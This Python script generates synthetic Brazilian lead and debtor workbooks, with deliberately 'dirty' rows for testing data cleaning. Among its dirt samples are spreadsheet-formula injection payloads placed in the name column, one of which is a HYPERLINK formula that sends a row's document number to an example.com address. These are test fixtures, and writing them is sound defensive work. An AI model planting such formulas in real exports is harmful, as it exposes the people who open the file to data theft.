"""Generates a workbook of invented Brazilian leads, as clean and as dirty as real ones.

    python samples/generate.py 1200 1                        # samples/Leads_Organizados.xlsx, or `make sample`
    python samples/generate.py 1000000 7 --out big.xlsx
    python samples/generate.py 3000 1 --carteira             # samples/carteira.xlsx: debts, with columns of their own

ROWS counts the rows below the header, blank ones included. The same ROWS and SEED give the same bytes with one version
of zlib, and the same text with any version. Three rows in a hundred have one kind of dirt
(`DirtKind`), each made by a function.

No row is about a real person. E-mails are at example.com, .net, .org (RFC 2606) and example.com.br. Mobiles begin with
901 to 909, which are reserved for collect calls and never given to a subscriber. Landlines and old mobiles have no such
range. Neither have documents: they are random numbers with valid check digits.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Sequence, Set
from datetime import UTC, datetime
from enum import StrEnum
from functools import cache
from pathlib import Path
from random import Random
from typing import NamedTuple, TypeVar

import click
from xlsxwriter import Workbook

DEFAULT_OUT = Path(__file__).with_name("Leads_Organizados.xlsx")
CARTEIRA_OUT = Path(__file__).with_name("carteira.xlsx")
SHEET = "Leads"
COLUMNS = ("Nome", "Contato", "CNPJ/CPF", "Email", "Telefone")
SEPARATOR = " | "
DIRTY = 0.03
"""The share of rows that have dirt."""

# Excel itself writes shared strings, so the sample has them too. Their table and every cell stay in memory until the
# end, about 1 kB a row. With more rows than this, strings are written into their cells, one row at a time.
MAX_ROWS_OF_SHARED_STRINGS = 300_000
_MAX_ROWS = 1_048_575  # of a sheet, without the header
_CREATED = datetime(2026, 7, 1, 9, 0, tzinfo=UTC)
_WIDTHS = (38, 26, 22, 44, 42)
_REMEMBERED = 512

Cell = str | int
Item = TypeVar("Item")


class SampleRow(NamedTuple):
    """The cells of one row; an empty text means that there is no cell."""

    nome: str = ""
    contato: str = ""
    documento: Cell = ""
    email: str = ""
    telefone: Cell = ""


class AreaCode(NamedTuple):
    """An area code (DDD), and the fiscal region of its state: the ninth digit of a CPF that is issued there."""

    ddd: str
    fiscal_region: str


class PersonName(NamedTuple):
    """The name of a person in its parts."""

    given: str
    surname: str
    full: str


AREA_CODES = tuple(
    AreaCode(ddd, fiscal_region)
    for fiscal_region, ddds in {
        "0": "51 53 54 55",  # RS
        "1": "61 62 63 64 65 66 67",  # DF, GO, TO, MT, MS
        "2": "68 69 91 92 93 94 95 96 97",  # AC, RO, PA, AM, RR, AP
        "3": "85 86 88 89 98 99",  # CE, PI, MA
        "4": "81 82 83 84 87",  # PE, AL, PB, RN
        "5": "71 73 74 75 77 79",  # BA, SE
        "6": "31 32 33 34 35 37 38",  # MG
        "7": "21 22 24 27 28",  # RJ, ES
        "8": "11 12 13 14 15 16 17 18 19",  # SP
        "9": "41 42 43 44 45 46 47 48 49",  # PR, SC
    }.items()
    for ddd in ddds.split()
)


def _words(text: str, separator: str = " ") -> tuple[str, ...]:
    return tuple(text.split(separator))


_UNUSED_DDDS = _words("10 20 23 25 26 29 30 36 39 40 50 52 56 57 58 59 60 70 72 76 78 80 90")
_DOMAINS = ("example.com", "example.com.br", "example.org", "example.net")

_GIVEN_NAMES = _words(
    "Adriana Alice Amanda Ana André Antônio Arthur Beatriz Benício Bruno Caio Camila Carla Carlos Caroline César "
    "Cíntia Clara Cláudio Daniel Débora Diego Edson Eduardo Elaine Elisa Emerson Fabiana Fábio Felipe Fernanda "
    "Flávia Francisco Gabriela Gilberto Giovana Guilherme Gustavo Heitor Helena Heloísa Henrique Hugo Igor Inês "
    "Isabela Ivan Jaqueline Jéssica João Joana Joaquim Jonas José Juliana Júlio Larissa Laura Leandro Letícia Lívia "
    "Lorena Lucas Luís Luíza Manuela Marcelo Márcia Marcos Maria Mariana Marina Mateus Maurício Mônica Murilo "
    "Natália Nelson Otávio Patrícia Paula Pedro Rafael Raíssa Raquel Raul Regina Renata Ricardo Roberta Rodrigo "
    "Rosângela Samuel Sandra Sérgio Simone Sônia Tainá Tatiana Teresa Thiago Valéria Vanessa Vera Vinícius Vitória "
    "Wagner Yara"
)
_SURNAMES = _words(
    "Abreu Aguiar Albuquerque Almeida Alves Amaral Andrade Anjos Aragão Araújo Assunção Azevedo Barbosa Barreto Barros "
    "Batista Bezerra Borges Braga Brandão Brito Camargo Campos Cardoso Carneiro Carvalho Castro Cavalcanti Conceição "
    "Cordeiro Corrêa Costa Coutinho Cunha Dantas Dias Duarte Esteves Farias Fernandes Ferreira Figueiredo Fonseca "
    "Fontes Freitas Furtado Galvão Gomes Gonçalves Guimarães Holanda Leal Leão Leite Lima Lopes Macedo Machado "
    "Magalhães Maia Marques Martins Medeiros Melo Mendes Menezes Monteiro Moraes Moreira Mota Moura Nascimento Neves "
    "Nogueira Nunes Oliveira Pacheco Paiva Peixoto Pereira Pimentel Pinheiro Pires Queiroz Ramos Reis Rezende Ribeiro "
    "Rocha Rodrigues Sá Sales Sampaio Santana Santos Saraiva Silva Silveira Siqueira Soares Souza Tavares Teixeira "
    "Toledo Torres Valença Vasconcelos Veiga Viana Vieira Xavier"
)
_PARTICLES = {
    surname: particle
    for particle, surnames in {
        "da ": "Conceição Costa Cunha Fonseca Mota Rocha Silva Silveira Veiga",
        "de ": "Abreu Almeida Andrade Assunção Azevedo Barros Carvalho Castro Farias Freitas Lima Melo Moraes Oliveira",
        "do ": "Amaral Nascimento",
        "dos ": "Anjos Reis Santos",
    }.items()
    for surname in surnames.split()
}
_COMPANY_STEMS = _words(
    "Água Clara|Alto da Serra|Angelim|Arara Azul|Aroeira|Barra Funda Nova|Beija-Flor|Boa Colheita|Bom Rumo|Buriti|"
    "Cajueiro|Campo Sereno|Canoa Quebrada|Capim Dourado|Carnaúba|Casa do Pão|Cerrado Vivo|Chão de Estrelas|"
    "Cravo & Canela|Dois Irmãos|Encosta Verde|Estação Central|Estrela do Norte|Farol da Ilha|Flor de Ipê|Girassol|"
    "Horizonte Azul|Ipê Branco|Jacarandá|Jatobá|Juriti|Lagoa Mansa|Lua Cheia|Mandacaru|Manacá da Serra|Maré Alta|"
    "Mar & Terra|Mata Nova|Monte Claro|Nascente|Nova Aliança|Ouro Verde|Paineira|Pedra Branca|Pé de Serra|"
    "Pena & Tinta|Ponte Nova|Porto Sereno|Praia Grande Azul|Primavera|Quero-Quero|Raiz Forte|Recanto Feliz|"
    "Ribeirão Claro|Rio Manso|Sabiá|São Bento Novo|Serra Dourada|Sol Nascente|Tamanduá|Terra Roxa|Três Marias|Tucano|"
    "Umbuzeiro|Vale Encantado|Vento Sul|Vila Aurora",
    separator="|",
)
_COMPANY_TRADES = _words(
    "Alimentos|Advogados Associados|Agropecuária|Arquitetura|Auto Peças|Brinquedos|Calçados|Climatização|"
    "Comércio de Bebidas|Comércio e Representações|Confecções|Construções|Contabilidade|Consultoria|Distribuidora|"
    "Embalagens|Engenharia|Farmácia de Manipulação|Ferragens|Gráfica e Editora|Hotelaria|Informática|Laticínios|"
    "Limpeza e Conservação|Logística|Marcenaria|Material de Construção|Móveis Planejados|Odontologia|"
    "Padaria e Confeitaria|Papelaria|Produções|Restaurante|Serviços Médicos|Supermercado|Tecnologia|Transportes|"
    "Turismo|Veterinária",
    separator="|",
)
_COMPANY_FORMS = ("Ltda.", "Ltda.", "Ltda.", "Ltda", "LTDA", "ME", "Ltda. - EPP", "S.A.", "S/S", "& Cia. Ltda.")
_MAILBOXES = _words("adm atendimento comercial compras contato diretoria financeiro sac vendas")

# The numbers of contacts of one kind in a row; each is as likely as it is frequent here.
_COUNTS = (0, 1, 1, 1, 1, 1, 1, 2, 2, 3)
_CHARACTERS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
_BRANCHES = ("0001", "0001", "0001", "0001", "0002", "0005")


# Everything is drawn from `rng.random()`, the only method whose sequence Python guarantees across versions.


def sample_rows(rows: int, seed: int, *, dirty: float = DIRTY) -> Iterator[SampleRow]:
    """Yield the rows of a workbook without its header. No two clean rows have the same document."""
    rng = Random(seed)
    first = _below(rng, 10**8)
    earlier: list[SampleRow] = []
    deck: list[DirtKind] = []
    for number in range(rows):
        row = _clean(rng, first + number)
        if rng.random() < dirty:
            deck = deck or _shuffled(rng)
            yield _DIRT[deck.pop()](rng, row, _one(rng, earlier) if earlier else row)
        else:
            yield row
            if len(earlier) < _REMEMBERED:
                earlier.append(row)
            elif number % 16 == 0:  # rarely, so that a repeated row may be thousands of rows away from the first
                earlier[_below(rng, _REMEMBERED)] = row


def generate(path: Path, rows: int, seed: int) -> None:
    """Write the workbook of ROWS and SEED to `path`; a missing folder is created."""
    write(path, sample_rows(rows, seed), constant_memory=rows > MAX_ROWS_OF_SHARED_STRINGS)


def write(path: Path, rows: Iterable[SampleRow], *, constant_memory: bool) -> None:
    """Write rows below a header: with shared strings, or in constant memory with strings in their cells."""
    path.parent.mkdir(parents=True, exist_ok=True)
    workbook = Workbook(str(path), {"constant_memory": constant_memory})
    workbook.set_properties({"title": "Leads organizados", "created": _CREATED})
    bold = workbook.add_format({"bold": True})
    sheet = workbook.add_worksheet(SHEET)
    sheet.freeze_panes(1, 0)
    for column, (title, width) in enumerate(zip(COLUMNS, _WIDTHS, strict=True)):
        sheet.set_column(column, column, width)
        sheet.write_string(0, column, title, bold)
    for number, row in enumerate(rows, start=1):
        for column, cell in enumerate(row):
            if isinstance(cell, int):
                sheet.write_number(number, column, cell)
            elif cell:
                sheet.write_string(number, column, cell)
    workbook.close()  # `with` would also close after an interrupt, and leave half a workbook that looks complete


# --- Columns of their own


class Debt(NamedTuple):
    """What somebody owes: the columns of a sheet beyond ours. The due date is the number of a day, as Excel counts."""

    vencimento: int
    valor: float
    contrato: str
    cidade: str
    produto: str


DEBT_COLUMNS = ("Vencimento", "Valor da Dívida", "Contrato", "Cidade", "Produto")
DATE_FORMAT, MONEY_FORMAT = "dd/mm/yyyy", '"R$" #,##0.00'
_FIRST_DUE = 46_174  # 1 June 2026
_CITIES = _words("Salvador|Feira de Santana|Ilhéus|Recife|Olinda|São Paulo|Campinas|Santos|Londrina|Belém", "|")
_PRODUCTS = _words("Cartão|Crédito pessoal|Financiamento|Consórcio|Mensalidade", "|")


def debts(rows: int, seed: int) -> Iterator[Debt]:
    """Yield what the people of so many rows owe."""
    rng = Random(seed)
    for _ in range(rows):
        yield Debt(
            _FIRST_DUE + _below(rng, 365),
            (1_000 + _below(rng, 2_000_000)) / 100,
            f"C{_below(rng, 10**7):07}-{_one(rng, '0123456789')}",
            _one(rng, _CITIES),
            _one(rng, _PRODUCTS),
        )


def generate_with_debts(path: Path, rows: int, seed: int) -> None:
    """Write the workbook of ROWS and SEED with the columns of `DEBT_COLUMNS` behind ours."""
    people = sample_rows(rows, seed)
    _write_table(
        path,
        (*COLUMNS, *DEBT_COLUMNS),
        ((*person, *(debt if any(person) else ())) for person, debt in zip(people, debts(rows, seed), strict=True)),
        dates={len(COLUMNS)},
        money={len(COLUMNS) + 1},
        constant_memory=rows > MAX_ROWS_OF_SHARED_STRINGS,
    )


CARTEIRA_COLUMNS = ("Cliente", "CPF/CNPJ", "Celular", "Telefone comercial", "Ramal", "E-mail", *DEBT_COLUMNS)


def generate_carteira(path: Path, rows: int = 3_000, seed: int = 1, *, dirty: float = 0) -> None:
    """Write a sheet of debtors as a team keeps it: a title above the header, two columns of phones, dates and money."""
    rng = Random(seed)

    def lines() -> Iterator[tuple[Cell | float, ...]]:
        for person, debt in zip(sample_rows(rows, seed, dirty=dirty), debts(rows, seed), strict=True):
            first, _, second = str(person.telefone).partition(SEPARATOR)
            mobile = f"{_one(rng, AREA_CODES).ddd}{_mobile(rng)}"
            yield (
                person.nome, person.documento, first or mobile, second.partition(SEPARATOR)[0],
                100 + _below(rng, 900) if second else "", person.email.partition(SEPARATOR)[0], *debt,
            )  # fmt: skip

    _write_table(
        path,
        CARTEIRA_COLUMNS,
        lines(),
        sheet_name="Carteira",
        above=("Carteira de cobrança, novembro de 2026",),
        dates={CARTEIRA_COLUMNS.index("Vencimento")},
        money={CARTEIRA_COLUMNS.index("Valor da Dívida")},
        constant_memory=False,
    )


def _write_table(
    path: Path,
    titles: Sequence[str],
    rows: Iterable[Sequence[Cell | float]],
    *,
    sheet_name: str = SHEET,
    above: Sequence[str] = (),
    dates: Set[int] = frozenset(),
    money: Set[int] = frozenset(),
    constant_memory: bool,
) -> None:
    """Write a sheet whose columns may be dates or money, below some lines of their own (`above`)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    workbook = Workbook(str(path), {"constant_memory": constant_memory})
    workbook.set_properties({"title": sheet_name, "created": _CREATED})
    bold = workbook.add_format({"bold": True})
    date, amount = (workbook.add_format({"num_format": code}) for code in (DATE_FORMAT, MONEY_FORMAT))
    formats = {**dict.fromkeys(dates, date), **dict.fromkeys(money, amount)}
    sheet = workbook.add_worksheet(sheet_name)
    for number, line in enumerate(above):
        sheet.write_string(number, 0, line, bold)
    for column, title in enumerate(titles):
        sheet.write_string(len(above), column, title, bold)
    for number, row in enumerate(rows, start=len(above) + 1):
        for column, cell in enumerate(row):
            if isinstance(cell, str):
                if cell:
                    sheet.write_string(number, column, cell)
            else:
                sheet.write_number(number, column, cell, formats.get(column))
    workbook.close()


# --- Clean rows


def _clean(rng: Random, number: int) -> SampleRow:
    """Return a row without dirt. Rows with different numbers have different documents."""
    area = _one(rng, AREA_CODES)
    emails, phones = _one(rng, _COUNTS), _one(rng, _COUNTS)
    phones = phones or int(not emails)  # a lead without any contact is dirt
    telefone = SEPARATOR.join([_phone(rng, area.ddd) for _ in range(phones)])
    if rng.random() < 0.55:
        return _company(rng, number, emails, telefone)
    person = _person(rng)
    return SampleRow(
        nome=person.full,
        contato=_person(rng).full if rng.random() < 0.3 else "",
        documento=_written(rng, _cpf(_code(number) + area.fiscal_region)),
        email=SEPARATOR.join([_personal_email(rng, person) for _ in range(emails)]),
        telefone=telefone,
    )


def _company(rng: Random, number: int, emails: int, telefone: str) -> SampleRow:
    stem, person = _one(rng, _COMPANY_STEMS), _person(rng)
    if rng.random() < 0.25:
        stem = f"{person.surname} & {_one(rng, _SURNAMES)}"
    base = _letters_and_digits(rng) if rng.random() < 0.12 else _code(number)
    return SampleRow(
        nome=f"{stem} {_one(rng, _COMPANY_TRADES)} {_one(rng, _COMPANY_FORMS)}",
        contato=person.full if rng.random() < 0.85 else "",
        documento=_written(rng, _cnpj(base + _one(rng, _BRANCHES))),
        email=SEPARATOR.join([_company_email(rng, stem) for _ in range(emails)]),
        telefone=telefone,
    )


def _person(rng: Random) -> PersonName:
    given, surname = _one(rng, _GIVEN_NAMES), _one(rng, _SURNAMES)
    middle = f"{_one(rng, _SURNAMES)} " if rng.random() < 0.6 else ""
    particle = _PARTICLES.get(surname, "") if rng.random() < 0.6 else ""
    return PersonName(given, surname, f"{given} {middle}{particle}{surname}")


def _personal_email(rng: Random, person: PersonName) -> str:
    return f"{_ascii(person.given)}.{_ascii(person.surname)}{_below(rng, 10_000)}@{_one(rng, _DOMAINS)}"


def _company_email(rng: Random, stem: str) -> str:
    return f"{_one(rng, _MAILBOXES)}.{_ascii(stem)}{_below(rng, 10_000)}@{_one(rng, _DOMAINS)}"


def _phone(rng: Random, ddd: str) -> str:
    """Return a mobile or, one time in five, a landline, in one of the ways that people write it."""
    subscriber = _mobile(rng) if rng.random() < 0.8 else f"{2 + _below(rng, 4)}{_digits(rng, 7)}"
    first, last = subscriber[:-4], subscriber[-4:]
    style = rng.random()
    if style < 0.5:
        return f"({ddd}) {first}-{last}"
    if style < 0.7:
        return f"{ddd}{subscriber}"
    if style < 0.8:
        return f"{ddd} {first}-{last}"
    return f"+55{ddd}{subscriber}" if style < 0.9 else f"+55 {ddd} {first}-{last}"


def _mobile(rng: Random) -> str:
    return f"90{1 + _below(rng, 9)}{_digits(rng, 6)}"


def _code(number: int) -> str:
    """Return eight digits that look random. The step is coprime to 10**8, so each code comes once in 10**8 numbers."""
    return f"{number * 61_803_399 % 100_000_000:08}"


def _letters_and_digits(rng: Random) -> str:
    """Return the root of an alphanumeric CNPJ, with at least one letter."""
    return _CHARACTERS[10 + _below(rng, 26)] + "".join([_one(rng, _CHARACTERS) for _ in range(7)])


def _cpf(base: str) -> str:
    """Return the CPF with these nine digits; the weights from the right are 2, 3, 4, …"""
    if base.count(base[0]) == len(base):  # its check digits would be valid, but it is no CPF
        base = "123456789"
    return _with_check_digits(base, range(2, 12))


def _cnpj(base: str) -> str:
    """Return the CNPJ with these twelve characters.

    A character is worth its ASCII code less 48; the weights from the right are 2 to 9, then 2 to 9 again.
    """
    return _with_check_digits(base, (2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5, 6))


def _with_check_digits(base: str, weights: Sequence[int]) -> str:
    for _ in range(2):
        remainder = (
            sum([(code - 48) * weight for code, weight in zip(reversed(base.encode()), weights, strict=False)]) % 11
        )
        base += "0" if remainder < 2 else str(11 - remainder)
    return base


def _written(rng: Random, documento: str) -> str:
    """Return the document with its mask or, three times in ten, without."""
    if rng.random() < 0.3:
        return documento
    if len(documento) == 11:
        return f"{documento[:3]}.{documento[3:6]}.{documento[6:9]}-{documento[9:]}"
    return f"{documento[:2]}.{documento[2:5]}.{documento[5:8]}/{documento[8:12]}-{documento[12:]}"


# --- Dirt. Each function takes a clean row and an earlier row, and returns the dirty row.


class DirtKind(StrEnum):
    """The kinds of dirt in real sheets."""

    DOCUMENTO_NUMERICO = "documento_numerico"
    TELEFONE_NUMERICO = "telefone_numerico"
    TELEFONE_CIENTIFICO = "telefone_cientifico"
    ZEROS_PERDIDOS = "zeros_perdidos"
    DIGITO_ERRADO = "digito_errado"
    CELULAR_ANTIGO = "celular_antigo"
    DDD_INEXISTENTE = "ddd_inexistente"
    TEXTO_PERDIDO = "texto_perdido"
    ACENTO_NO_EMAIL = "acento_no_email"
    PONTO_E_VIRGULA = "ponto_e_virgula"
    VIRGULA = "virgula"
    BARRA = "barra"
    QUEBRA_DE_LINHA = "quebra_de_linha"
    CONTATO_REPETIDO = "contato_repetido"
    LINHA_REPETIDA = "linha_repetida"
    FORMULA_NO_NOME = "formula_no_nome"
    ESPACOS = "espacos"
    LINHA_EM_BRANCO = "linha_em_branco"
    NADA_UTIL = "nada_util"


Dirt = Callable[[Random, SampleRow, SampleRow], SampleRow]


def _shuffled(rng: Random) -> list[DirtKind]:
    """Return every kind of dirt in random order, the common ones several times.

    Rows take their dirt from this deck in turn, so that even a small sample has every kind.
    """
    return sorted((kind for kind in DirtKind for _ in range(_WEIGHTS.get(kind, 1))), key=lambda _: rng.random())


def _number_for_document(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    """Make the document a number cell: leading zeros are lost."""
    return row._replace(documento=int(_numeric_document(rng, row)))


def _number_for_phone(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    country = "55" if rng.random() < 0.4 else ""
    return row._replace(telefone=int(f"{country}{_one(rng, AREA_CODES).ddd}{_mobile(rng)}"))


def _scientific_phone(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    """Write the phone as Excel shows a number that is too wide, saved as text: six digits are lost."""
    return row._replace(telefone=f"5,5{_one(rng, AREA_CODES).ddd}9{_below(rng, 9) + 1}E+12")


def _lost_zeros(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    digits = _numeric_document(rng, row)
    document = _cpf("0" + digits[1:9]) if len(digits) == 11 else _cnpj("0" + digits[1:12])
    return row._replace(documento=document.lstrip("0"))


def _wrong_digit(_rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    document = str(row.documento)
    return row._replace(documento=f"{document[:-1]}{(int(document[-1]) + 1) % 10}")


def _old_mobile(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    """Add a mobile from before the ninth digit was introduced."""
    old = f"({_one(rng, AREA_CODES).ddd}) {_one(rng, '89')}{_digits(rng, 3)}-{_digits(rng, 4)}"
    return row._replace(telefone=SEPARATOR.join(filter(None, (old, str(row.telefone)))))


def _bad_ddd(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    mobile = _mobile(rng)
    return row._replace(telefone=f"({_one(rng, _UNUSED_DDDS)}) {mobile[:5]}-{mobile[5:]}")


def _stray_text(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    return row._replace(**_one(rng, _STRAY_TEXTS))


def _accented_email(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    """Add an address with an accented name."""
    address = f"joão.{_ascii(_one(rng, _SURNAMES))}@{_one(rng, _DOMAINS)}"
    return row._replace(email=SEPARATOR.join(filter(None, (address, row.email))))


def _separated_by(separator: str) -> Dirt:
    def dirt(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
        ddd, person = _one(rng, AREA_CODES).ddd, _person(rng)
        emails = filter(None, (*row.email.split(SEPARATOR), _personal_email(rng, person)))
        phones = filter(None, (*str(row.telefone).split(SEPARATOR), _phone(rng, ddd)))
        return row._replace(email=separator.join(emails), telefone=separator.join(phones))

    return dirt


def _repeated_contact(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    """Repeat an e-mail or a phone in its cell, written in another way."""
    if row.email and rng.random() < 0.5:
        first = row.email.partition(SEPARATOR)[0]
        return row._replace(email=f"{row.email}{SEPARATOR}{first.upper()}")
    ddd, mobile = _one(rng, AREA_CODES).ddd, _mobile(rng)
    return row._replace(telefone=f"({ddd}) {mobile[:5]}-{mobile[5:]}{SEPARATOR}+55{ddd}{mobile}")


def _repeated_row(rng: Random, row: SampleRow, earlier: SampleRow) -> SampleRow:
    """Return an earlier row again or, half the time, its lead with other contacts."""
    if rng.random() < 0.5:
        return earlier
    return earlier._replace(nome=earlier.nome.upper(), email=row.email, telefone=row.telefone)


def _formula(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    """Make the name a formula, which a spreadsheet would run if an export did not escape it (CSV injection)."""
    return row._replace(nome=_one(rng, _FORMULAS))


def _spaces(rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    """Add invisible blanks; some are non-breaking, as in text that was copied from a web page."""
    blank = _one(rng, ("  ", "\xa0", " \t"))
    return row._replace(
        nome=f"{blank}{row.nome.replace(' ', '  ')} ",
        email=f" {row.email}{blank}" if row.email else "",
        telefone=f"{row.telefone} " if row.telefone else "",
    )


def _blank_row(_rng: Random, _row: SampleRow, _earlier: SampleRow) -> SampleRow:
    return SampleRow()


def _nothing_useful(_rng: Random, row: SampleRow, _earlier: SampleRow) -> SampleRow:
    return SampleRow(row.nome, row.contato, "a confirmar", "sem e-mail", "não tem")


def _numeric_document(rng: Random, row: SampleRow) -> str:
    """Return the digits of the row's document; a random CPF when the document has letters."""
    document = re.sub(r"[./-]", "", str(row.documento))
    return document if document.isdecimal() else _cpf(_digits(rng, 9))


_DIRT: dict[DirtKind, Dirt] = {
    DirtKind.DOCUMENTO_NUMERICO: _number_for_document,
    DirtKind.TELEFONE_NUMERICO: _number_for_phone,
    DirtKind.TELEFONE_CIENTIFICO: _scientific_phone,
    DirtKind.ZEROS_PERDIDOS: _lost_zeros,
    DirtKind.DIGITO_ERRADO: _wrong_digit,
    DirtKind.CELULAR_ANTIGO: _old_mobile,
    DirtKind.DDD_INEXISTENTE: _bad_ddd,
    DirtKind.TEXTO_PERDIDO: _stray_text,
    DirtKind.ACENTO_NO_EMAIL: _accented_email,
    DirtKind.PONTO_E_VIRGULA: _separated_by("; "),
    DirtKind.VIRGULA: _separated_by(", "),
    DirtKind.BARRA: _separated_by(" / "),
    DirtKind.QUEBRA_DE_LINHA: _separated_by("\n"),
    DirtKind.CONTATO_REPETIDO: _repeated_contact,
    DirtKind.LINHA_REPETIDA: _repeated_row,
    DirtKind.FORMULA_NO_NOME: _formula,
    DirtKind.ESPACOS: _spaces,
    DirtKind.LINHA_EM_BRANCO: _blank_row,
    DirtKind.NADA_UTIL: _nothing_useful,
}
_WEIGHTS = {
    DirtKind.DOCUMENTO_NUMERICO: 3,
    DirtKind.TELEFONE_NUMERICO: 3,
    DirtKind.LINHA_REPETIDA: 2,
    DirtKind.ESPACOS: 2,
}
_STRAY_TEXTS: tuple[dict[str, str], ...] = (
    {"telefone": "não tem"},
    {"telefone": "ligar só depois do almoço"},
    {"telefone": "mesmo do sócio"},
    {"email": "sem e-mail"},
    {"email": "não informado"},
    {"email": "-"},
    {"documento": "isento"},
    {"documento": "a confirmar"},
)
_FORMULAS = (
    '=HYPERLINK("http://example.com/?dados="&C2,"Clique aqui")',
    '=HYPERLINK("http://example.net";"Boleto")',
    "=1+1",
    "+SOMA(A1:A9)",
    "-2+3",
    "@SUM(1+1)",
)


# --- Draws


def _one(rng: Random, options: Sequence[Item]) -> Item:
    return options[int(rng.random() * len(options))]


def _below(rng: Random, end: int) -> int:
    return int(rng.random() * end)


def _digits(rng: Random, count: int) -> str:
    return f"{int(rng.random() * 10**count):0{count}}"


@cache
def _ascii(text: str) -> str:
    """`Água Clara` → `aguaclara`."""
    return re.sub(r"[^a-z0-9]", "", unicodedata.normalize("NFKD", text).lower())


@click.command()
@click.argument("rows", type=click.IntRange(1, _MAX_ROWS))
@click.argument("seed", type=int)
@click.option("--carteira", is_flag=True, help="Write debtors, with due dates and amounts.")
@click.option("--out", type=click.Path(dir_okay=False, path_type=Path), help="Where to; a file beside this one.")
def main(rows: int, seed: int, carteira: bool, out: Path | None) -> None:
    """Write a workbook of ROWS invented leads; the same ROWS and SEED write the same file."""
    out = out or (CARTEIRA_OUT if carteira else DEFAULT_OUT)
    (generate_carteira if carteira else generate)(out, rows, seed)
    click.echo(f"{out}: {rows} rows, {out.stat().st_size} bytes")


if __name__ == "__main__":
    main()
